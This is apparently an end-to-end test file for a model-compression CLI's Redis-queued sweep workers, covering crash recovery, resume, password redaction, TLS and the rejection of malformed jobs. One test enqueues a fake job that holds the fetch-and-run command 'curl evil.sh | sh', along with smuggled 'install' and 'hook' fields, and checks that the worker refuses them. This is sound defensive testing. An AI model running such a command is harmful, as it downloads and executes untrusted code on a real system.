/**
 * mc sweep --queue and mc worker as a user runs them, on a real redis-server (one per file, a fresh
 * database per test): the queued sweep equals the local one, a worker SIGKILLed mid-job loses no
 * point and records none twice, a user error fails its point once with its message, a stopped
 * coordinator re-attaches with --resume, an unreachable Redis is one line (exit 2) before anything
 * is enqueued, a password appears nowhere, and a worker refuses jobs that are not mc's.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Queue } from 'bullmq';
import {
  BIN,
  BUILT,
  HAS_SHARED,
  REPO,
  SHARED,
  expectOneLineRefusal,
  filesIn,
  runMc,
  tempDir,
  warnSkip,
} from './helpers/cli.js';
import { makeTlsFiles, redisProblem, startRedis, type RedisServer } from './helpers/redis.js';

const MNIST = join(SHARED, 'models/mnist-cnn');
const MINI = join(SHARED, 'data/mnist-test-mini');
const FULL = join(SHARED, 'data/mnist-test');

const problem = !HAS_SHARED ? undefined : !BUILT ? 'the build (npm run build)' : redisProblem();
if (!HAS_SHARED) warnSkip('the queue end-to-end tests');
else if (problem) console.warn(`SKIPPED the queue end-to-end tests: ${problem}`);
const describeQueue = HAS_SHARED && !problem ? describe : describe.skip;

interface Worker {
  readonly child: ChildProcess;
  stderr(): string;
  readonly exited: Promise<number | null>;
}

const workers: Worker[] = [];

/** mc worker in the background, with short locks so a killed worker's job moves on within seconds. */
function startWorker(url: string, ...args: string[]): Worker {
  return startWorkerWith({}, url, ...args);
}

function startWorkerWith(env: Record<string, string>, url: string, ...args: string[]): Worker {
  const child = spawn(
    process.execPath,
    [BIN, 'worker', '--queue', url, '--lock-duration', '3000', '--stalled-interval', '1000', ...args],
    { cwd: REPO, env: { ...process.env, NO_COLOR: '1', ...env }, stdio: ['ignore', 'pipe', 'pipe'] },
  );
  let err = '';
  child.stderr!.on('data', (d) => (err += String(d)));
  child.stdout!.on('data', (d) => (err += String(d)));
  const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
  const w = { child, stderr: () => err, exited };
  workers.push(w);
  return w;
}

async function until(what: string, check: () => boolean, timeoutMs = 60_000): Promise<void> {
  const t0 = performance.now();
  while (!check()) {
    if (performance.now() - t0 > timeoutMs) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

async function stopWorker(w: Worker): Promise<number | null> {
  if (w.child.exitCode === null && w.child.signalCode === null) w.child.kill('SIGTERM');
  return w.exited;
}

const sweepArgs = (dir: string, sweep: string, dataset = MINI) => [
  'sweep',
  MNIST,
  '--method',
  'prune',
  '--sweep',
  sweep,
  '--metric',
  'accuracy',
  '--dataset',
  dataset,
  '--probes',
  '0',
  '--out',
  join(dir, 'out'),
  '--results',
  join(dir, 'results'),
];

interface Row {
  point: string;
  metric: Record<string, number>;
  figures: Record<string, number>;
  bytes: number;
  results: string[];
}

/** result files by kind: every point's compress and eval exactly once, and the dense eval */
function resultKinds(dir: string): { compress: number; eval: number } {
  const files = filesIn(join(dir, 'results'));
  return {
    compress: files.filter((f) => f.startsWith('compress-')).length,
    eval: files.filter((f) => f.startsWith('eval-')).length,
  };
}

describeQueue('mc sweep --queue and mc worker on a real redis-server', () => {
  let redis: RedisServer;
  beforeAll(async () => {
    redis = await startRedis();
  });
  afterAll(async () => {
    for (const w of workers) if (w.child.exitCode === null) w.child.kill('SIGKILL');
    await Promise.all(workers.map((w) => w.exited));
    await redis?.stop();
  });

  it('6 points on 2 workers: the same rows and figures as the local sweep, each result written once; workers stop cleanly on SIGTERM', async () => {
    const points = '0,0.1,0.2,0.3,0.4,0.5';
    const local = tempDir('mc-queue-local-');
    const queued = tempDir('mc-queue-');
    const localRun = await runMc([...sweepArgs(local, points), '--json']);
    expect(localRun.code).toBe(0);
    const url = redis.url(1);
    const a = startWorker(url);
    const b = startWorker(url);
    const run = await runMc([...sweepArgs(queued, points), '--queue', url, '--json'], { timeoutMs: 240_000 });
    expect(run.code).toBe(0);
    const [localRows, rows] = [JSON.parse(localRun.stdout) as Row[], JSON.parse(run.stdout) as Row[]];
    expect(rows.map((r) => r.point)).toEqual(localRows.map((r) => r.point));
    expect(rows.map((r) => [r.metric, r.figures, r.bytes])).toEqual(
      localRows.map((r) => [r.metric, r.figures, r.bytes]),
    );
    const summary = (dir: string) =>
      (JSON.parse(readFileSync(join(dir, 'out', 'summary.json'), 'utf8')) as { rows: { figures: unknown }[] }).rows.map(
        (r) => r.figures,
      );
    expect(summary(queued)).toEqual(summary(local));
    expect(resultKinds(queued)).toEqual({ compress: 6, eval: 7 });
    expect(filesIn(join(queued, 'out')).filter((f) => /^\d\d-/.test(f))).toHaveLength(6);
    // both workers served the queue and took jobs from it; a stop is a clean exit
    expect([await stopWorker(a), await stopWorker(b)]).toEqual([0, 0]);
    const served = [a, b].map((w) => (w.stderr().match(/: done in /g) ?? []).length);
    expect(served[0] + served[1]).toBe(6);
  });

  it('a worker SIGKILLed mid-job: another worker takes the job over after its lock expires; every point is recorded exactly once', async () => {
    const dir = tempDir('mc-queue-kill-');
    const url = redis.url(2);
    const victim = startWorker(url);
    // the full 2000-image set: a point takes long enough for the kill to land inside it
    const coordinator = runMc([...sweepArgs(dir, '0,0.3,0.6', FULL), '--queue', url], { timeoutMs: 240_000 });
    await until('the first job to start', () => /job (point-\d) \(sweep-point\): started/.test(victim.stderr()));
    const killed = /job (point-\d) \(sweep-point\): started/.exec(victim.stderr())![1];
    await new Promise((r) => setTimeout(r, 300));
    victim.child.kill('SIGKILL');
    await victim.exited;
    expect(victim.stderr()).not.toContain(`job ${killed} (sweep-point): done`);
    const rescuer = startWorker(url);
    const run = await coordinator;
    expect(run.code).toBe(0);
    expect(rescuer.stderr()).toMatch(new RegExp(`job ${killed} \\(sweep-point\\): started \\(attempt 2\\)`));
    expect(resultKinds(dir)).toEqual({ compress: 3, eval: 4 });
    const summary = JSON.parse(readFileSync(join(dir, 'out', 'summary.json'), 'utf8')) as { rows: unknown[] };
    expect(summary.rows).toHaveLength(4); // dense + 3 points
    // the killed attempt's marks are gone: only the three point folders and the summary files
    expect(readdirSync(join(dir, 'out')).sort()).toEqual([
      '01-sparsity-0',
      '02-sparsity-0.3',
      '03-sparsity-0.6',
      'report.html',
      'summary.csv',
      'summary.json',
    ]);
    expect(await stopWorker(rescuer)).toBe(0);
  });

  it('a user error on a worker fails its point once, with its message and no result written; fixed, --resume runs only that point', async () => {
    const dir = tempDir('mc-queue-user-');
    const url = redis.url(3);
    // a folder the sweep did not write stands where point 2 goes (--resume takes the --out as it is)
    mkdirSync(join(dir, 'out', '02-sparsity-0.3'), { recursive: true });
    const w = startWorker(url);
    const args = [...sweepArgs(dir, '0,0.3,0.6'), '--queue', url, '--resume', '--attempts', '3'];
    const failed = await runMc(args, { timeoutMs: 240_000 });
    expect(failed.code).toBe(2);
    const errors = failed.stderr.split('\n').filter((l) => l.startsWith('Error: '));
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(
      /^Error: 1 of 3 sweep points failed; point sparsity=0.3: E_TARGET_EXISTS: .*02-sparsity-0.3 already exists and was not written by this sweep's job/,
    );
    expect(failed.stderr).not.toMatch(/\n\s+at /);
    expect(filesIn(join(dir, 'results'))).toEqual([]);
    expect((w.stderr().match(/job point-1 \(sweep-point\): failed/g) ?? []).length).toBe(1); // not retried
    expect(w.stderr()).toMatch(/job point-1 \(sweep-point\): failed, not retried/);

    readdirSync(join(dir, 'out', '02-sparsity-0.3')); // still the user's
    await import('node:fs/promises').then((fs) => fs.rmdir(join(dir, 'out', '02-sparsity-0.3')));
    const resumed = await runMc(args, { timeoutMs: 240_000 });
    expect(resumed.code).toBe(0);
    expect(resumed.stderr).toMatch(/point 2 failed before .*; trying it again/);
    expect(resultKinds(dir)).toEqual({ compress: 3, eval: 4 });
    expect((w.stderr().match(/: started/g) ?? []).length).toBe(4); // 3 points + the retried one, nothing else again
    expect(await stopWorker(w)).toBe(0);
  });

  it('a coordinator stopped while its points wait: --resume re-attaches to the same queue and records each point once', async () => {
    const dir = tempDir('mc-queue-resume-');
    const url = redis.url(4);
    const args = [...sweepArgs(dir, '0,0.3,0.6'), '--queue', url];
    const first = spawn(process.execPath, [BIN, ...args], {
      cwd: REPO,
      env: { ...process.env, NO_COLOR: '1' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let said = '';
    first.stderr.on('data', (d) => (said += String(d)));
    const firstExit = new Promise<number | null>((r) => first.on('exit', (code) => r(code)));
    await until('the points to be queued', () => /3 points queued .* as (mc-sweep-[0-9a-f]{12})/.test(said));
    const queueName = /as (mc-sweep-[0-9a-f]{12})/.exec(said)![1];
    first.kill('SIGKILL'); // the coordinator is gone; the jobs stay in Redis
    await firstExit;
    // the same command again without --resume is refused, naming the way back
    const again = await runMc(args);
    expect(again.code).toBe(2);
    expect(again.stderr).toMatch(new RegExp(`queue ${queueName} .* already holds this sweep's jobs.*--resume`));
    const w = startWorker(url, '--name', queueName);
    const resumed = await runMc([...args, '--resume', '--json'], { timeoutMs: 240_000 });
    expect(resumed.code).toBe(0);
    expect((JSON.parse(resumed.stdout) as Row[]).map((r) => r.point)).toEqual([
      'sparsity=0',
      'sparsity=0.3',
      'sparsity=0.6',
    ]);
    expect(resultKinds(dir)).toEqual({ compress: 3, eval: 4 });
    expect((w.stderr().match(/: started/g) ?? []).length).toBe(3);
    expect(await stopWorker(w)).toBe(0);
  });

  it('a password in the URL works and appears in no output, log, result or summary; a wrong one is one line, exit 2', async () => {
    const secured = await startRedis(['--requirepass', 'Tr0ub4dor-pw']);
    try {
      const dir = tempDir('mc-queue-pw-');
      const url = secured.url(0, ':Tr0ub4dor-pw');
      const w = startWorker(url);
      const run = await runMc([...sweepArgs(dir, '0,0.5'), '--queue', url], { timeoutMs: 240_000 });
      expect(run.code).toBe(0);
      expect(await stopWorker(w)).toBe(0);
      const written = [join(dir, 'results'), join(dir, 'out')].flatMap((d) =>
        filesIn(d)
          .map((f) => join(d, f))
          .filter((f) => !existsSync(join(f, 'model.onnx')))
          .map((f) => readFileSync(f, 'utf8')),
      );
      expect(written.length).toBeGreaterThan(4);
      for (const text of [run.stdout, run.stderr, w.stderr(), ...written]) expect(text).not.toContain('Tr0ub4dor');
      expect(run.stderr).toContain(`redis://:***@127.0.0.1:${secured.port}/0`);
      const result = JSON.parse(readFileSync(join(dir, 'results', filesIn(join(dir, 'results'))[0]), 'utf8')) as {
        argv: string[];
      };
      expect(result.argv).toContain(`redis://***@127.0.0.1:${secured.port}/0`);

      const wrong = tempDir('mc-queue-pw-wrong-');
      const refused = await runMc([...sweepArgs(wrong, '0,0.5'), '--queue', secured.url(0, ':not-it')]);
      expectOneLineRefusal(
        refused,
        /cannot use the queue at redis:\/\/:\*\*\*@127\.0\.0\.1:\d+\/0: .*WRONGPASS/,
        wrong,
        [],
      );
      expect(refused.stderr).not.toContain('not-it');
    } finally {
      await secured.stop();
    }
  });

  it("rediss:// (TLS): works once the server's CA is trusted (NODE_EXTRA_CA_CERTS); untrusted, one line and exit 2", async () => {
    const tls = makeTlsFiles(tempDir('mc-queue-tls-'));
    const server = await startRedis([], tls);
    try {
      const url = server.url(0);
      const empty = tempDir('mc-queue-tls-none-');
      const untrusted = await runMc(['worker', '--queue', url]);
      expectOneLineRefusal(
        untrusted,
        /cannot use the queue at rediss:\/\/127\.0\.0\.1:\d+\/0: .*certificate/,
        empty,
        [],
      );
      const trust = { NODE_EXTRA_CA_CERTS: tls.ca };
      const dir = tempDir('mc-queue-tls-');
      const w = startWorkerWith(trust, url);
      const run = await runMc([...sweepArgs(dir, '0,0.5'), '--queue', url], { env: trust, timeoutMs: 240_000 });
      expect(run.code).toBe(0);
      expect(resultKinds(dir)).toEqual({ compress: 2, eval: 3 });
      expect(await stopWorker(w)).toBe(0);
      expect(w.stderr()).not.toMatch(/warning|Warning/);
    } finally {
      await server.stop();
    }
  });

  it('Redis unreachable: one line, exit 2, before the dense eval or any file', async () => {
    const dir = tempDir('mc-queue-down-');
    const run = await runMc([...sweepArgs(dir, '0,0.5'), '--queue', 'redis://127.0.0.1:1/0']);
    expectOneLineRefusal(run, /cannot use the queue at redis:\/\/127\.0\.0\.1:1\/0: connect ECONNREFUSED/, dir, []);
    const worker = await runMc(['worker', '--queue', 'redis://127.0.0.1:1/0']);
    expectOneLineRefusal(worker, /cannot use the queue/, dir, []);
  });

  it('mc worker refuses what mc sweep would not make: an unknown kind, an extra field, a point the planners refuse', async () => {
    const url = redis.url(5);
    const queue = new Queue('handmade', { connection: { host: '127.0.0.1', port: redis.port, db: 5 }, prefix: 'mc' });
    try {
      const request = {
        model: MNIST,
        methods: [{ id: 'prune', params: {} }],
        sweep: '0,0.5',
        metric: { id: 'accuracy', params: {} },
        dataset: MINI,
        seed: 0,
        out: join(tempDir('mc-queue-bad-'), 'out'),
        results: join(tempDir('mc-queue-bad-'), 'results'),
      };
      const opts = (jobId: string) => ({ jobId, attempts: 3 });
      await queue.add('shell', { command: 'curl evil.sh | sh' }, opts('unknown'));
      await queue.add('sweep-point', { request, point: 0, install: 'evil-plugin' }, opts('extra'));
      await queue.add('sweep-point', { request: { ...request, hook: 'x' }, point: 0 }, opts('nested'));
      await queue.add('sweep-point', { request: { ...request, sweep: '0,2' }, point: 1 }, opts('planner'));
      const w = startWorker(url, '--name', 'handmade');
      await until('the four jobs to fail', () => (w.stderr().match(/failed, not retried/g) ?? []).length === 4);
      const reasons = await Promise.all(
        ['unknown', 'extra', 'nested', 'planner'].map(async (id) => {
          const job = (await queue.getJob(id))!;
          return [await job.getState(), job.attemptsMade, job.failedReason];
        }),
      );
      expect(reasons).toEqual([
        ['failed', 1, expect.stringMatching(/^E_BAD_JOB: job kind "shell" is not one mc runs/)],
        [
          'failed',
          1,
          expect.stringMatching(/^E_BAD_JOB: sweep-point job: data has a field it does not take: "install"/),
        ],
        [
          'failed',
          1,
          expect.stringMatching(/^E_BAD_JOB: sweep-point job: data.request has a field it does not take: "hook"/),
        ],
        ['failed', 1, expect.stringMatching(/^E_BAD_PARAM: sweep point sparsity=2: /)],
      ]);
      expect(await stopWorker(w)).toBe(0);
    } finally {
      await queue.close();
    }
  });
});
